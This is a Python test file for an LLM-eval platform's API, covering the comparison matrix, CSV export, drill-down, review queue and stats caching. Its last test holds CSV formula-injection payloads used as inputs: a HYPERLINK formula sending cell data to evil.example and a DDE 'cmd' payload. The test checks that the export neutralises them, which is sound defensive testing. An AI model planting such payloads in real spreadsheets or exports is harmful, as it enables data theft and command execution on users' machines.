"""The comparison matrix, its CSV, the drill-down and the engine-backed review queue, through the API:
three versions (generated, hand-edited, one that errs) over 30 rated demo traces and 10 unrated."""

import csv
import io
import json

import pytest

from chalicelib import clients
from chalicelib.metrics import compute_metrics
from tests.conftest import Api, new_workspace

RULE_CODE = '''def eval_refund_rule(trace: dict) -> tuple[bool, str]:
    names = [c.get("name") for c in trace.get("tool_calls") or []]
    if "issue_refund" in names and "get_order" not in names[:names.index("issue_refund")]:
        return False, "refund issued before the order was looked up"
    return True, "no unchecked refund"
'''
ERRING_CODE = '''def eval_errs_on_denials(trace: dict) -> tuple[bool, str]:
    names = [c.get("name") for c in trace.get("tool_calls") or []]
    if "check_refund_eligibility" in names and "issue_refund" not in names:
        raise ValueError("cannot judge refund denials")
    return len(names) > 0, "used a tool" if names else "no tool used"
'''


@pytest.fixture(scope="module")
def world(module_http):
    api = new_workspace(module_http, "matrix")
    traces = api.upload_demo(40, seed=3)
    rated, unrated = traces[:30], traces[30:]
    es = api.ok("POST", "/v1/eval-sets", {"name": "refunds", "criteria": "look the order up before refunding"},
                status=201)["id"]
    for trace_id, rating in rated:
        api.ok("PUT", f"/v1/eval-sets/{es}/feedback/{trace_id}", {"rating": rating, "notes": f"n-{trace_id[-4:]}"})
    v1 = api.wait_ok(api.ok("POST", f"/v1/eval-sets/{es}/generate", {"generator": "offline"},
                             status=202)["job_id"])["result"]["eval_id"]
    v2 = api.ok("POST", f"/v1/evals/{v1}/versions", {"code": RULE_CODE}, status=201)
    v3 = api.ok("POST", f"/v1/evals/{v2['id']}/versions", {"code": ERRING_CODE}, status=201)
    for saved in (v2, v3):
        api.wait_ok(saved["scoring_job_id"])
    api.ok("POST", f"/v1/evals/{v1}/activate")
    ids = [v1, v2["id"], v3["id"]]
    for eval_id in ids:
        api.wait_ok(api.ok("POST", f"/v1/evals/{eval_id}/execute", {"trace_ids": [t for t, _ in unrated]},
                            status=202)["job_id"])
    executions = {e: {x["trace_id"]: x for x in api.ok("GET", f"/v1/evals/{e}/executions?limit=200")["items"]}
                  for e in ids}
    return {"api": api, "es": es, "rated": dict(rated), "unrated": [t for t, _ in unrated], "ids": ids,
            "executions": executions}


def walk(api: Api, path: str, limit: int) -> list[dict]:
    rows, cursor, pages = [], None, 0
    while True:
        page = api.ok("GET", f"{path}{'&' if '?' in path else '?'}limit={limit}" + (f"&cursor={cursor}" if cursor else ""))
        rows += page["rows"]
        pages += 1
        cursor = page["next_cursor"]
        assert pages < 100
        if not cursor:
            return rows


def test_default_columns_are_the_active_version_then_the_two_newest(world):
    v1, v2, v3 = world["ids"]
    page = world["api"].ok("GET", f"/v1/eval-sets/{world['es']}/matrix")
    assert [(e["id"], e["status"]) for e in page["evals"]] == [(v1, "active"), (v3, "draft"), (v2, "draft")]
    assert set(page["stats"]) == {v1, v2, v3}


def test_paging_walks_every_rated_trace_once_with_cells_matching_executions(world):
    rows = walk(world["api"], f"/v1/eval-sets/{world['es']}/matrix", limit=7)
    assert [r["trace_id"] for r in rows].count(rows[0]["trace_id"]) == 1
    assert {r["trace_id"] for r in rows} == set(world["rated"]) and len(rows) == len(world["rated"])
    for row in rows:
        rating = world["rated"][row["trace_id"]]
        assert row["human"]["rating"] == rating and row["human"]["notes"] == f"n-{row['trace_id'][-4:]}"
        assert row["trace"]["name"] and row["trace"]["timestamp"]
        assert set(row["results"]) == set(world["ids"])
        for eval_id, cell in row["results"].items():
            stored = world["executions"][eval_id][row["trace_id"]]
            assert (cell["result"], cell["reason"], cell["duration_ms"]) == (
                stored["result"], stored["reason"], stored["duration_ms"])
            expected = None if rating == "neutral" or cell["result"] not in ("pass", "fail") else (
                (rating == "positive") == (cell["result"] == "pass"))
            assert cell["agrees"] is expected


def test_stats_are_the_metrics_of_all_rated_rows_and_match_the_version_record(world):
    api, es = world["api"], world["es"]
    page = api.ok("GET", f"/v1/eval-sets/{es}/matrix?limit=5")
    rows = walk(api, f"/v1/eval-sets/{es}/matrix", limit=200)
    for eval_id in world["ids"]:
        expected = compute_metrics((r["human"]["rating"], r["results"][eval_id]["result"]) for r in rows)
        assert page["stats"][eval_id] == expected.model_dump(mode="json")
        stored = api.ok("GET", f"/v1/evals/{eval_id}")["metrics"]
        assert (stored["n"], stored["accuracy"], stored["confusion"]) == (expected.n, expected.accuracy,
                                                                          expected.model_dump()["confusion"])
    assert page["stats"][world["ids"][2]]["errors"] > 0
    assert page["stats"][world["ids"][0]]["neutral"] == sum(r == "neutral" for r in world["rated"].values()) > 0
    second = api.ok("GET", f"/v1/eval-sets/{es}/matrix?limit=5&cursor={page['next_cursor']}")
    assert second["stats"] == {} and second["rows"]


def test_filters_select_contradictions_errors_ratings_dates_and_sources(world):
    api, es = world["api"], world["es"]
    base = f"/v1/eval-sets/{es}/matrix"
    everything = walk(api, base, limit=200)
    contradictions = walk(api, base + "?filter=contradictions", limit=4)
    assert contradictions and [r["trace_id"] for r in contradictions] == [
        r["trace_id"] for r in everything if any(c["agrees"] is False for c in r["results"].values())]
    errors = walk(api, base + "?filter=errors", limit=3)
    assert errors and [r["trace_id"] for r in errors] == [
        r["trace_id"] for r in everything if any(c["result"] in ("error", "timeout") for c in r["results"].values())]
    negatives = walk(api, base + "?rating=negative", limit=5)
    assert [r["trace_id"] for r in negatives] == [r["trace_id"] for r in everything
                                                  if r["human"]["rating"] == "negative"]
    stamps = sorted(r["trace"]["timestamp"] for r in everything)
    lo, hi = stamps[5], stamps[20]
    ranged = walk(api, base + f"?from={lo}&to={hi}&filter=all", limit=6)
    assert sorted(r["trace"]["timestamp"] for r in ranged) == stamps[5:21]
    assert len(walk(api, base + "?source=langfuse", limit=50)) == len(everything)
    assert walk(api, base + "?source=langsmith", limit=50) == []
    only = api.ok("GET", base + f"?eval_ids={world['ids'][1]}")
    assert [e["id"] for e in only["evals"]] == [world["ids"][1]]
    assert all(set(r["results"]) == {world["ids"][1]} for r in only["rows"])


def test_a_page_costs_a_few_dynamodb_calls_and_never_a_scan(world, aws_events):
    api, es = world["api"], world["es"]
    calls: list[str] = []

    def count(event_name, **kwargs):
        calls.append(event_name.rsplit(".", 1)[-1])

    aws_events("before-call.dynamodb.*", count)
    first = api.ok("GET", f"/v1/eval-sets/{es}/matrix?limit=10")
    first_calls = list(calls)
    calls.clear()
    api.ok("GET", f"/v1/eval-sets/{es}/matrix?limit=10&cursor={first['next_cursor']}")
    next_calls = list(calls)
    calls.clear()
    api.ok("GET", f"/v1/eval-sets/{es}/matrix?limit=10&filter=contradictions&cursor={first['next_cursor']}")
    filtered_calls = list(calls)
    for made in (first_calls, next_calls, filtered_calls):
        assert "Scan" not in made, made
    # auth, set, versions, feedback, summaries, results (30 keys); the first page adds ratings + one Query per column
    assert len(next_calls) <= 8, next_calls
    assert len(first_calls) <= len(next_calls) + 1 + 3, first_calls
    assert len(filtered_calls) <= 10, filtered_calls
    assert next_calls.count("BatchGetItem") == 2 and next_calls.count("Query") == 2


def test_a_changed_rating_moves_to_the_top_once_and_a_removed_one_leaves(world):
    api, es = world["api"], world["es"]
    rows = walk(api, f"/v1/eval-sets/{es}/matrix", 50)
    last = rows[-1]
    flipped = "negative" if last["human"]["rating"] != "negative" else "positive"
    api.ok("PUT", f"/v1/eval-sets/{es}/feedback/{last['trace_id']}", {"rating": flipped, "notes": "changed"})
    try:
        after = walk(api, f"/v1/eval-sets/{es}/matrix", 7)
        assert after[0]["trace_id"] == last["trace_id"] and after[0]["human"] == {"rating": flipped, "notes": "changed"}
        assert sorted(r["trace_id"] for r in after) == sorted(r["trace_id"] for r in rows)
        assert api.delete(f"/v1/eval-sets/{es}/feedback/{last['trace_id']}").status_code == 204
        gone = walk(api, f"/v1/eval-sets/{es}/matrix", 7)
        assert last["trace_id"] not in {r["trace_id"] for r in gone} and len(gone) == len(rows) - 1
    finally:
        api.ok("PUT", f"/v1/eval-sets/{es}/feedback/{last['trace_id']}", last["human"])


def test_csv_exports_the_same_rows(world):
    api, es = world["api"], world["es"]
    rows = walk(api, f"/v1/eval-sets/{es}/matrix?filter=contradictions", limit=200)
    response = api.get(f"/v1/eval-sets/{es}/matrix.csv?filter=contradictions")
    assert response.status_code == 200 and {k.lower(): v for k, v in response.headers.items()}["content-type"].startswith("text/csv")
    parsed = list(csv.DictReader(io.StringIO(response.body.decode())))
    assert [p["trace_id"] for p in parsed] == [r["trace_id"] for r in rows]
    versions = {e["id"]: e["version"] for e in api.ok("GET", f"/v1/eval-sets/{es}/matrix")["evals"]}
    for p, r in zip(parsed, rows):
        assert p["rating"] == r["human"]["rating"]
        for eval_id, cell in r["results"].items():
            assert p[f"v{versions[eval_id]}_result"] == cell["result"]
            assert p[f"v{versions[eval_id]}_agrees"] == ("" if cell["agrees"] is None else str(cell["agrees"]).lower())


def test_bad_matrix_requests(world, other):
    api, es = world["api"], world["es"]
    base = f"/v1/eval-sets/{es}/matrix"
    assert api.get("/v1/eval-sets/es_0000000000000000000f/matrix").status_code == 404
    assert other.get(base).status_code == 404 and other.get(base + ".csv").status_code == 404
    assert api.get(base + "?eval_ids=ev_nope").status_code == 404
    for query in ("filter=bogus", "rating=great", "from=yesterday", "cursor=%%%", "limit=0",
                  "cursor=eyJzIjogImVzX3giLCAiZiI6IG51bGwsICJrIjogMH0="):
        response = api.get(f"{base}?{query}")
        assert response.status_code == 400, (query, response.body)


def test_drill_down_shows_the_result_the_code_and_the_trace(world, other):
    api, (v1, v2, v3) = world["api"], world["ids"]
    erring = next(t for t, e in world["executions"][v3].items() if e["result"] == "error" and t in world["rated"])
    detail = api.ok("GET", f"/v1/executions/{v3}/{erring}")
    assert detail["result"] == "error" and "ValueError" in detail["reason"] and "cannot judge" in detail["reason"]
    assert detail["code"] == ERRING_CODE and detail["version"] == 3 and detail["eval_name"] == "eval_errs_on_denials"
    assert detail["trace"]["id"] == erring and detail["human"]["rating"] == world["rated"][erring]
    assert detail["agrees"] is None
    unrated = world["unrated"][0]
    plain = api.ok("GET", f"/v1/executions/{v2}/{unrated}")
    assert plain["human"] is None and plain["result"] in ("pass", "fail") and plain["code"] == RULE_CODE
    # a result without output is stored without those attributes, and read back as empty
    stored = clients.dynamodb_table("executions").get_item(Key={"eval_id": v2, "trace_id": unrated})["Item"]
    assert {"stdout", "stderr"}.isdisjoint(stored) and (stored["result"], stored["reason"]) == (
        plain["result"], plain["reason"])
    assert plain["reason"] and (plain["stdout"], plain["stderr"]) == ("", "")
    assert api.get(f"/v1/executions/{v2}/tr_unknown").status_code == 404
    assert api.get(f"/v1/executions/ev_unknown/{unrated}").status_code == 404
    assert other.get(f"/v1/executions/{v2}/{unrated}").status_code == 404


def test_review_queue_puts_disagreements_then_errors_first(world):
    api, es, (v1, v2, v3) = world["api"], world["es"], world["ids"]
    ex = world["executions"]
    queue = api.ok("GET", f"/v1/eval-sets/{es}/review-queue?limit=200")["items"]
    assert {i["id"] for i in queue} == set(world["unrated"])

    def kind(trace_id):
        passfail = {ex[e][trace_id]["result"] for e in (v1, v2, v3)} & {"pass", "fail"}
        if len(passfail) > 1:
            return 0
        return 1 if ex[v3][trace_id]["result"] in ("error", "timeout") else 2

    kinds = [kind(i["id"]) for i in queue]
    assert kinds == sorted(kinds) and 0 in kinds and kinds[-1] == 2
    for item, k in zip(queue, kinds):
        expected = {0: "eval versions disagree", 1: "latest version v3 errs"}.get(k, "newest unrated")
        assert item["reason"].startswith(expected), item["reason"]


def test_stored_stats_match_a_fresh_recomputation_after_runs(world):
    """Stored stats (the default: no extra reads) equal a fresh recomputation right after the runs."""
    api, eval_set_id = world["api"], world["es"]
    stored = api.ok("GET", f"/v1/eval-sets/{eval_set_id}/matrix")
    fresh = api.ok("GET", f"/v1/eval-sets/{eval_set_id}/matrix?stats=fresh")
    assert stored["stats_mode"] == "stored" and fresh["stats_mode"] == "fresh"
    assert stored["stats"] == fresh["stats"]
    assert api.ok("GET", f"/v1/eval-sets/{eval_set_id}/matrix?stats=none")["stats"] == {}
    assert api.get(f"/v1/eval-sets/{eval_set_id}/matrix?stats=maybe").status_code == 400


def test_stored_stats_follow_a_rating_change(world):
    """A rating change makes stored stats stale: the next matrix recomputes (and stores) them."""
    api, eval_set_id = world["api"], world["es"]
    trace_id, rating = next(iter(world["rated"].items()))
    before = api.ok("GET", f"/v1/eval-sets/{eval_set_id}/matrix")["stats"]
    flipped = "negative" if rating == "positive" else "positive"
    api.ok("PUT", f"/v1/eval-sets/{eval_set_id}/feedback/{trace_id}", {"rating": flipped, "notes": "changed"})
    try:
        after = api.ok("GET", f"/v1/eval-sets/{eval_set_id}/matrix")["stats"]
        fresh = api.ok("GET", f"/v1/eval-sets/{eval_set_id}/matrix?stats=fresh")["stats"]
        assert after == fresh
        assert any(after[e]["confusion"] != before[e]["confusion"] for e in after)
    finally:
        api.ok("PUT", f"/v1/eval-sets/{eval_set_id}/feedback/{trace_id}", {"rating": rating, "notes": f"n-{trace_id[-4:]}"})


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(1)", "+1", "-1", "\t=1+1", "\r=1+1"]
PLAIN = ["plain name", "1 + 1", "a=b", "it's @home", "2025-03-01"]
REASON_CODE = '''def eval_formula_reasons(trace: dict) -> tuple[bool, str]:
    return True, "=cmd|' /C calc'!A0"
'''


def test_csv_neutralises_formulas_from_trace_names_notes_and_reasons_and_keeps_plain_values(api):
    names = FORMULAS + PLAIN
    traces = [{"id": "x", "source": {"platform": "upload", "external_id": f"f{i}"}, "name": name,
               "messages": [{"role": "user", "content": "hi"}]} for i, name in enumerate(names)]
    job = api.ok("POST", "/v1/traces/upload?format=unified", raw="\n".join(json.dumps(t) for t in traces),
                 headers={"Content-Type": "application/x-ndjson"}, status=202)
    assert api.wait_ok(job["job_id"])["result"]["imported"] == len(names)
    ids = {t["source"]["external_id"]: t["id"] for t in api.all_traces()}
    es = api.ok("POST", "/v1/eval-sets", {"name": "formulas"}, status=201)["id"]
    for i, name in enumerate(names):
        api.ok("PUT", f"/v1/eval-sets/{es}/feedback/{ids[f'f{i}']}",
               {"rating": "positive" if i % 2 else "negative", "notes": name})
    generated = api.wait_ok(api.ok("POST", f"/v1/eval-sets/{es}/generate", {"generator": "offline"},
                                   status=202)["job_id"])["result"]["eval_id"]
    version = api.ok("POST", f"/v1/evals/{generated}/versions", {"code": REASON_CODE}, status=201)
    api.wait_ok(version["scoring_job_id"])
    response = api.get(f"/v1/eval-sets/{es}/matrix.csv?eval_ids={version['id']}")
    assert response.status_code == 200
    parsed = {row["trace_id"]: row for row in csv.DictReader(io.StringIO(response.body.decode(), newline=""))}
    n = version["version"]
    for i, name in enumerate(names):
        row = parsed[ids[f"f{i}"]]
        expected = "'" + name if name in FORMULAS else name
        assert (row["trace_name"], row["notes"]) == (expected, expected)
        assert row[f"v{n}_reason"] == "'=cmd|' /C calc'!A0" and row[f"v{n}_result"] == "pass"
        assert int(row[f"v{n}_duration_ms"]) >= 0 and not row[f"v{n}_duration_ms"].startswith("'")
